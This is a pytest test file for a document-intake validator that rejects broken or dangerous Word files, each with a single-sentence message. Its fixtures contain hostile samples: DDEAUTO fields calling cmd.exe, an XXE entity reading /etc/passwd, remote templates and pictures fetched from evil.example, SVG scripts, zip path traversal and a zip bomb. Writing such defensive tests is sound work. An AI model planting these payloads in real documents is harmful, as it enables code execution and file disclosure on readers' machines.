"""A Word file from outside is looked through first; what could harm is refused with one plain sentence."""

import io
import time
import zipfile

import pytest

from partwell.documents.plain_text import text_of
from partwell.documents.safe_archive import opened_safely
from partwell.domain.errors import UnreadableFile
from tests.documents.word_files import repacked, shipped, with_text, word_file

PLAIN = word_file("Hello")


def archive(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in members.items():
            made.writestr(name, content)
    return out.getvalue()


def types(kind: str) -> bytes:
    return (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override '
        f'PartName="/word/document.xml" ContentType="{kind}"/></Types>'
    ).encode()


def encrypted() -> bytes:
    data = bytearray(PLAIN)
    for signature, offset in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        place = data.find(signature)
        while place != -1:
            data[place + offset] |= 1
            place = data.find(signature, place + 1)
    return bytes(data)


def duplicate() -> bytes:
    out = io.BytesIO(PLAIN)
    with pytest.warns(UserWarning, match="Duplicate name"), zipfile.ZipFile(out, "a") as made:
        made.writestr("word/document.xml", b"<x/>")
    return out.getvalue()


SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
DOTX = "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"
DOCM = "application/vnd.ms-word.document.macroEnabled.main+xml"

BROKEN = {
    "empty": (b"", "is empty"),
    "text": (b"Dear client", "is not a Word document"),
    "old word": (b"\xd0\xcf\x11\xe0" + b"\0" * 600, "is in the old Word format or locked with a password"),
    "rtf": (b"{\\rtf1 hello}", "is an RTF file"),
    "pdf": (b"%PDF-1.7", "is a PDF file"),
    "cut short": (PLAIN[: len(PLAIN) // 2], "is damaged or not complete"),
    "scrambled": (PLAIN[:200] + bytes(2000) + PLAIN[2200:], "is damaged or not complete"),
    "locked": (encrypted(), "is locked with a password"),
    "spreadsheet": (archive({"[Content_Types].xml": types(SHEET)}), "is not a Word document"),
    "open document": (
        archive({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<x/>"}),
        "is not a Word document but an OpenDocument text",
    ),
    "workbook": (
        archive({"[Content_Types].xml": types(SHEET)}),
        "is not a Word document but an Excel workbook",
    ),
    "web page": (b"<html>hello</html>", "is not a Word document but a web page"),
    "strict": (
        with_text(
            PLAIN,
            "word/document.xml",
            {
                "http://schemas.openxmlformats.org/wordprocessingml/2006/main": (
                    "http://purl.oclc.org/ooxml/wordprocessingml/main"
                )
            },
        ),
        "is saved as Strict Open XML",
    ),
    "zip of anything": (archive({"a.txt": b"x"}), "is not a Word document"),
    "template": (archive({"[Content_Types].xml": types(DOTX)}), "is a Word template"),
    "macros": (archive({"[Content_Types].xml": types(DOCM)}), "contains macros"),
    "torn xml": (with_text(PLAIN, "word/document.xml", {"</w:body>": ""}), "is damaged or not complete"),
    "too large": (b"PK" + bytes(10 * 1024 * 1024), "is larger than 10 MB"),
}


@pytest.mark.parametrize("kind", sorted(BROKEN))
def test_a_broken_file_is_named_in_one_sentence(kind: str) -> None:
    data, words = BROKEN[kind]
    with pytest.raises(UnreadableFile) as refusal:
        opened_safely(data)
    assert str(refusal.value).startswith(f"This file {words}")
    assert "It was not taken; please " in str(refusal.value)


def relation(kind: str, target: str, mode: str = "External") -> bytes:
    link = (
        f'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"'
        f' Target="{target}" TargetMode="{mode}"/></Relationships>'
    )
    return with_text(PLAIN, "word/_rels/document.xml.rels", {"</Relationships>": link})


def body(xml: str) -> bytes:
    return with_text(PLAIN, "word/document.xml", {"<w:r><w:t>Hello</w:t></w:r>": xml})


def field(code: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{code}<w:r><w:fldChar w:fldCharType="end"/></w:r>'


def run(code: str) -> str:
    return f'<w:r><w:instrText xml:space="preserve">{code}</w:instrText></w:r>'


def bomb() -> bytes:
    return archive({"[Content_Types].xml": types("x"), "word/media/image1.png": bytes(45 * 1024 * 1024)})


def member(name: str) -> bytes:
    return repacked(PLAIN, lambda _, content: content, added={name: b"x"})


def svg(inside: str) -> bytes:
    drawing = f'<svg xmlns="http://www.w3.org/2000/svg">{inside}</svg>'.encode()
    return repacked(PLAIN, lambda _, content: content, added={"word/media/image1.svg": drawing})


HOSTILE = {
    "linked picture": (relation("image", "http://evil.example/x.png"), "refers to something outside itself"),
    "unc picture": (relation("image", "\\\\evil\\share\\x.png"), "refers to something outside itself"),
    "remote template": (
        relation("attachedTemplate", "http://evil.example/x.dotm"),
        "is tied to a Word template",
    ),
    "frame": (relation("frame", "http://evil.example/"), "brings in another file"),
    "ole": (relation("oleObject", "embeddings/x.bin", "Internal"), "brings in another file"),
    "alternative part": (relation("aFChunk", "x.html", "Internal"), "brings in another file"),
    "script link": (relation("hyperlink", "javascript:alert(1)"), "refers to something outside itself"),
    "file link": (relation("hyperlink", "file:///etc/passwd"), "refers to something outside itself"),
    "dde": (body(field(run("DDEAUTO c:\\\\windows\\\\cmd.exe"))), "contains the Word field DDEAUTO"),
    "dde over runs": (
        body(field(run(" DD") + run("EAU") + run("TO cmd "))),
        "contains the Word field DDEAUTO",
    ),
    "include picture": (
        body(field(run('INCLUDEPICTURE "http://evil.example"'))),
        "contains the Word field INCLUDEPICTURE",
    ),
    "include text": (body('<w:fldSimple w:instr="INCLUDETEXT x"/>'), "contains the Word field INCLUDETEXT"),
    "hidden in an if": (body(field(run("IF 1 = 1 ") + field(run("DDE cmd")))), "contains the Word field DDE"),
    "code from a field": (body(field(field(run("QUOTE 68 68 69")))), "contains the Word field"),
    "field link to a file": (
        body(field(run('HYPERLINK "file:///c:/x"'))),
        "contains the Word field HYPERLINK",
    ),
    "never ended": (
        body(f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{run("DDE x")}'),
        "contains the Word field DDE",
    ),
    "vml picture": (
        body(
            '<w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://evil.example"/></w:pict></w:r>'
        ),
        "refers to a picture outside itself",
    ),
    "document type": (
        repacked(
            PLAIN,
            lambda name, content: (
                content.replace(
                    b"<w:document", b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document', 1
                )
                if name == "word/document.xml"
                else content
            ),
        ),
        "contains a document type declaration",
    ),
    "mail merge list": (relation("mailMergeSource", "file:///c:/list.xlsx"), "is tied to a mail merge list"),
    "mail merge field": (body(field(run("MERGEFIELD Name"))), "contains the Word field MERGEFIELD"),
    "name of the file": (body(field(run("FILENAME \\p"))), "contains the Word field FILENAME, which tells"),
    "drawing that links": (
        svg('<image href="http://evil.example/x.png"/>'),
        "holds a drawing (SVG) that fetches or runs",
    ),
    "drawing with a script": (svg("<script>1</script>"), "holds a drawing (SVG) that fetches or runs"),
    "drawing with a style elsewhere": (
        svg("<style>@import 'x'</style>"),
        "holds a drawing (SVG) that fetches or runs",
    ),
    "macro part": (member("word/vbaProject.bin"), "contains macros"),
    "embedded object": (member("word/embeddings/oleObject1.bin"), "contains an embedded object"),
    "path upwards": (member("../../evil"), "holds a part with an impossible name"),
    "absolute path": (member("/etc/evil"), "holds a part with an impossible name"),
    "drive": (member("c:evil"), "holds a part with an impossible name"),
    "same part twice": (duplicate(), "holds the same part twice"),
    "same part in capitals": (member("WORD/document.xml"), "holds the same part twice"),
    "bomb": (bomb(), "unpacks to far more than a letter needs"),
    "too many parts": (archive({f"{n}": b"" for n in range(501)}), "holds more than 500 parts"),
}


@pytest.mark.parametrize("kind", sorted(HOSTILE))
def test_a_file_that_could_do_harm_is_refused_within_a_second(kind: str) -> None:
    data, words = HOSTILE[kind]
    begun = time.perf_counter()
    with pytest.raises(UnreadableFile) as refusal:
        opened_safely(data)
    assert time.perf_counter() - begun < 2
    assert str(refusal.value).startswith(f"This file {words}")


HARMLESS = {
    "link to a page": relation("hyperlink", "https://moss.example"),
    "link to a mailbox": relation("hyperlink", "mailto:office@moss.example"),
    "page numbers": body(field(run(" PA") + run("GE ")) + field(run("NUMPAGES"))),
    "page numbers after the first": body(field(run("IF ") + field(run("PAGE")) + run(" > 1 x"))),
    "link field": body(field(run('HYPERLINK "https://moss.example"'))),
    "plain drawing": svg('<rect fill="url(#g)"/><image href="data:image/png;base64,AA=="/>'),
    "link to a place": body(field(run("HYPERLINK \\l top"))),
}


@pytest.mark.parametrize("kind", sorted(HARMLESS))
def test_what_firms_really_use_is_taken(kind: str) -> None:
    assert "word/document.xml" in opened_safely(HARMLESS[kind])


@pytest.mark.parametrize("name", ["letter", "case_record", "call_sheet"])
def test_every_shipped_layout_is_taken(name: str) -> None:
    assert "word/document.xml" in opened_safely(shipped(name))


def test_the_words_of_a_file_are_read_exactly() -> None:
    document = body(
        '<w:r><w:t xml:space="preserve">a </w:t><w:tab/><w:t>b</w:t><w:br/><w:t>&lt;c&gt;</w:t>'
        '<w:noBreakHyphen/></w:r><w:del w:id="1"><w:r><w:delText>gone</w:delText></w:r></w:del>'
        + field(run("PAGE"))
    )
    assert text_of(document) == "a \tb\n<c>-"
